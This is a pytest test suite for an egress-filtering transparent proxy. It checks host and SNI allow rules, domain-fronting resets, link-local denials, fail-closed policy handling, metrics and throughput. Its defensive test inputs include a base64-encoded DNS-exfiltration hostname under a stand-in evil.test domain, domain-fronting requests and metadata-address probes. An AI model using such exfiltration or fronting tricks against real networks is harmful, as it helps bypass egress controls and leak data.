"""The transparent interceptor end to end, in a world of its own (tests/support/intercept_world.py:
three fresh namespaces, the proxy and the "internet" in subprocesses)."""

from __future__ import annotations

import os
import socket
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from egressd.metrics_text import metric_value, parse
from tests.support.intercept_world import (
    API,
    BULK,
    CLIENT,
    CLIENT_NO_FLOW,
    EVIL,
    JOB_ID,
    RAW,
    RESOLVER,
    World,
    _stop,
    client_hello,
    expect_reset,
    http_get,
    make_world,
    recv_all,
    source,
)


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    with make_world(tmp_path_factory.mktemp("intercept")) as w:
        yield w


@pytest.fixture
def enforce(world: World) -> Iterator[World]:
    world.set_policy()
    yield world
    world.set_policy()


# =====================================================================================
# tests
# =====================================================================================

pytestmark = [pytest.mark.root("ip", "nft", "nsenter"), pytest.mark.timeout(120)]


def test_allowed_http_by_host(enforce: World) -> None:
    with enforce.connect(API, 80) as sock:
        src = source(sock)
        request, response = http_get(sock, "api.allowed.test", "/bytes/100000")
    assert response.startswith(b"HTTP/1.1 200 OK")
    assert b"X-Host: api.allowed.test" in response
    assert response.endswith(b"x" * 100000)
    event = enforce.wait_event(event="connection", source=src)
    assert event["verdict"] == "allow" and event["reason"] == "allowed_host"
    assert event["host"] == "api.allowed.test"
    assert (event["dst"], event["port"]) == (API, 80)
    assert event["job_id"] == JOB_ID and event["account"] == "acme" and event["node"] == "node1"
    assert event["proxy"] == "proxy-t" and event["mode"] == "enforce"
    assert event["would_deny"] is False and event["level"] == "info"
    assert event["bytes_up"] == len(request)
    assert event["bytes_down"] == len(response)
    assert event["duration_ms"] >= 0


def test_denied_host_is_reset(enforce: World) -> None:
    src = enforce.expect_reset(EVIL, 80, b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n")
    event = enforce.wait_event(event="connection", source=src)
    assert (event["verdict"], event["reason"], event["host"]) == (
        "deny",
        "no_matching_rule",
        "evil.test",
    )
    assert event["level"] == "warning" and event["bytes_up"] == 0 and event["bytes_down"] == 0


def test_domain_fronting_is_reset(enforce: World) -> None:
    src = enforce.expect_reset(EVIL, 80, b"GET / HTTP/1.1\r\nHost: api.allowed.test\r\n\r\n")
    event = enforce.wait_event(event="connection", source=src)
    assert (event["verdict"], event["reason"]) == ("deny", "host_address_mismatch")
    assert (event["host"], event["dst"]) == ("api.allowed.test", EVIL)


def test_refused_names_are_never_looked_up(enforce: World) -> None:
    """An SNI/Host the policy does not allow must not make the proxy resolve it
    (that would be a DNS exfiltration channel around the responder)."""
    secret = "c2VjcmV0LWRhdGE.exfil.evil.test"
    src = enforce.expect_reset(EVIL, 443, client_hello(secret))
    assert enforce.wait_event(event="connection", source=src)["reason"] == "no_matching_rule"
    src = enforce.expect_reset(EVIL, 80, f"GET / HTTP/1.1\r\nHost: {secret}\r\n\r\n".encode())
    assert enforce.wait_event(event="connection", source=src)["reason"] == "no_matching_rule"
    assert not [q for q in enforce.upstream_queries() if "exfil" in q["qname"]]


def test_tls_sni(enforce: World) -> None:
    hello = client_hello("api.allowed.test")
    with enforce.connect(API, 443) as sock:
        src = source(sock)
        sock.sendall(hello)
        assert recv_all(sock) == b"TLS-OK %d" % len(hello)
    event = enforce.wait_event(event="connection", source=src)
    assert (event["verdict"], event["reason"], event["host"]) == (
        "allow",
        "allowed_host",
        "api.allowed.test",
    )

    src = enforce.expect_reset(API, 443, client_hello("evil.test"))
    event = enforce.wait_event(event="connection", source=src)
    assert (event["verdict"], event["reason"]) == ("deny", "no_matching_rule")

    # Domain fronting: an allowed SNI sent to evil.test's address.
    src = enforce.expect_reset(EVIL, 443, client_hello("api.allowed.test"))
    event = enforce.wait_event(event="connection", source=src)
    assert (event["verdict"], event["reason"]) == ("deny", "host_address_mismatch")


def test_always_denied_without_waiting(enforce: World) -> None:
    src = enforce.expect_reset("169.254.169.254", 80)
    event = enforce.wait_event(event="connection", source=src)
    assert (event["verdict"], event["reason"]) == ("deny", "deny_link_local")
    assert event["duration_ms"] < 250  # decided without the 500 ms peek


def test_cidr_rule_without_waiting(enforce: World) -> None:
    """A server-speaks-first service on a cidr rule: no peek, the banner comes at once."""
    with enforce.connect(BULK, 2525) as sock:
        src = source(sock)
        assert sock.recv(100) == b"220 raw.test ready\r\n"
    event = enforce.wait_event(event="connection", source=src)
    assert event["reason"] == "allowed_cidr"
    assert event["duration_ms"] < 400  # a peek would have waited 500 ms for client bytes


def test_report_mode_allows_and_flags(world: World) -> None:
    world.set_policy(mode="report")
    try:
        with world.connect(EVIL, 80) as sock:
            src = source(sock)
            _, response = http_get(sock, "evil.test", "/bytes/10")
        assert response.startswith(b"HTTP/1.1 200 OK")
        event = world.wait_event(event="connection", source=src)
        assert (event["verdict"], event["reason"]) == ("allow", "no_matching_rule")
        assert event["would_deny"] is True and event["mode"] == "report"
        assert event["level"] == "warning"

        # Always-denied ranges stay enforced in report mode.
        src = world.expect_reset("169.254.169.254", 80)
        event = world.wait_event(event="connection", source=src)
        assert (event["verdict"], event["reason"], event["would_deny"]) == (
            "deny",
            "deny_link_local",
            False,
        )
    finally:
        world.set_policy()


def test_unknown_flow_is_reset(enforce: World) -> None:
    src = enforce.expect_reset(
        API, 80, b"GET / HTTP/1.1\r\nHost: api.allowed.test\r\n\r\n", src=CLIENT_NO_FLOW
    )
    event = enforce.wait_event(event="connection", source=src)
    assert (event["verdict"], event["reason"], event["job_id"]) == ("deny", "unknown_flow", None)


def test_policy_unavailable_fails_closed(world: World) -> None:
    world.token_path.write_text("not.a.jws")
    try:
        src = world.expect_reset(API, 80, b"GET / HTTP/1.1\r\nHost: api.allowed.test\r\n\r\n")
        event = world.wait_event(event="connection", source=src)
        assert (event["verdict"], event["reason"]) == ("deny", "policy_unverifiable")
    finally:
        world.set_policy()


def test_cidr_rule_half_close_and_counts(enforce: World) -> None:
    payload = os.urandom(3 << 20)
    with enforce.connect(BULK, 9000) as sock:
        src = source(sock)
        sock.sendall(b"RECV\n" + payload)
        sock.shutdown(socket.SHUT_WR)  # the server answers only after our FIN
        answer = recv_all(sock)
    assert answer == b"%d\n" % len(payload)
    event = enforce.wait_event(event="connection", source=src)
    assert (event["verdict"], event["reason"]) == ("allow", "allowed_cidr")
    assert event["bytes_up"] == len(payload) + 5
    assert event["bytes_down"] == len(answer)


def test_upstream_connect_failure_resets_client(enforce: World) -> None:
    src = enforce.expect_reset(BULK, 9001)  # allowed, but nothing listens there
    event = enforce.wait_event(event="connection", source=src)
    assert (event["verdict"], event["reason"]) == ("allow", "upstream_connect_failed")


def test_server_speaks_first_with_dns_learned_name(enforce: World) -> None:
    import dns.message
    import dns.query

    # Without a name (raw.test's rule is a host rule): denied after the peek.
    src = enforce.expect_reset(RAW, 2525)
    assert enforce.wait_event(event="connection", source=src)["reason"] == "no_matching_rule"

    # Resolve through the proxy's DNS: the job's name for the address decides.
    udp = enforce.client_socket(CLIENT, socket.SOCK_DGRAM)
    with udp:
        answer = dns.query.udp(
            dns.message.make_query("raw.test", "A"), RESOLVER, timeout=5, sock=udp
        )
    assert [r.address for rrset in answer.answer for r in rrset] == [RAW]
    with enforce.connect(RAW, 2525) as sock:
        src = source(sock)
        assert sock.recv(100) == b"220 raw.test ready\r\n"  # after the peek timeout
        sock.sendall(b"hello\r\n")
        assert sock.recv(100) == b"hello\r\n"
    event = enforce.wait_event(event="connection", source=src)
    assert (event["verdict"], event["reason"], event["host"]) == (
        "allow",
        "allowed_host",
        "raw.test",
    )


def test_relay_throughput(enforce: World, record_property: Callable[[str, object], None]) -> None:
    size = 256 << 20
    with enforce.connect(BULK, 9000, timeout=30) as sock:
        src = source(sock)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
        started = time.perf_counter()
        sock.sendall(b"SEND %d\n" % size)
        buf = bytearray(4 << 20)
        got = 0
        while n := sock.recv_into(buf):
            got += n
        elapsed = time.perf_counter() - started
    assert got == size
    rate = size / elapsed / 1e6
    record_property("relay_down_MBps", round(rate, 1))
    print(f"\nrelay throughput (down, one connection): {rate:.0f} MB/s")
    event = enforce.wait_event(event="connection", source=src)
    assert event["bytes_down"] == size


def test_metrics(enforce: World) -> None:
    with enforce.connect(API, 80) as sock:
        src = source(sock)
        http_get(sock, "api.allowed.test", "/bytes/10")
    enforce.wait_event(event="connection", source=src)
    samples = parse(enforce.metrics())
    conns = "egressd_connections_total"
    # Every (verdict, reason) is there from the start (zeros): these must have counted.
    assert (metric_value(samples, conns, reason="allowed_host", verdict="allow") or 0) >= 1
    assert (metric_value(samples, conns, reason="deny_link_local", verdict="deny") or 0) >= 1
    assert metric_value(samples, "egressd_bytes_total", direction="up") is not None
    assert metric_value(samples, "egressd_bytes_total", direction="down") is not None
    assert metric_value(samples, "egressd_connections_active") == 0


def test_close_resets_open_connections(tmp_path: Path) -> None:
    """A proxy that stops cancels its connections (clients see a reset) and exits cleanly."""
    with make_world(tmp_path, peek_timeout_s=0.2) as w:
        sock = w.connect(BULK, 9000)
        with sock:
            src = source(sock)
            sock.sendall(b"RECV\n")  # the server waits for our FIN: a connection that stays open
            time.sleep(0.5)
            assert _stop(w.procs["proxy"]) == 0, w.proxy_stderr()
            expect_reset(sock, b"more")
        event = w.wait_event(event="connection", source=src)
        assert event["verdict"] == "allow" and event["bytes_up"] == 5
        assert "Traceback" not in w.proxy_stderr()
